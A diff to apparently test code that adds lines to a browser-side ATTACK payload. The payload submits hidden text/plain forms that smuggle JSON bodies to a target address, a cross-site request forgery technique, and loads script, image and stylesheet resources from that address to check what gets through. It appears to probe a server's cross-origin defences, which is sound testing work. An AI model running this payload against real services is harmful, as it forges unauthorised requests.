@@ -30,6 +30,22 @@ ATTACK = """async address => {
     try { told.push((await (await fetch(url, options)).text()).slice(0, 40)); } catch { told.push(""); }
   }
   navigator.sendBeacon(address + "throw-away.json", blob);
+  const posted = [["throw-away.json", '{"name": "soles", "x": "', '"}'], ["create.json", "from", "blank"]];
+  for (const [path, name, value] of posted) {
+    const form = document.createElement("form");
+    Object.assign(form, { action: address + path, method: "post", enctype: "text/plain", target: "_blank" });
+    form.append(Object.assign(document.createElement("input"), { name, value }));
+    document.body.append(form);
+    form.submit();
+  }
+  const loaded = (element, source) => new Promise((resolve) => {
+    element.onload = () => resolve("loaded");
+    element.onerror = () => resolve("");
+    document.head.append(Object.assign(element, source));
+  });
+  told.push(await loaded(document.createElement("img"), { src: address + "icon.svg" }));
+  told.push(await loaded(document.createElement("script"), { src: address + "hear.js", type: "module" }));
+  told.push(await loaded(document.createElement("link"), { href: address + "desk.css", rel: "stylesheet" }));
   const frame = document.createElement("iframe");
   frame.src = address;
   document.body.append(frame);
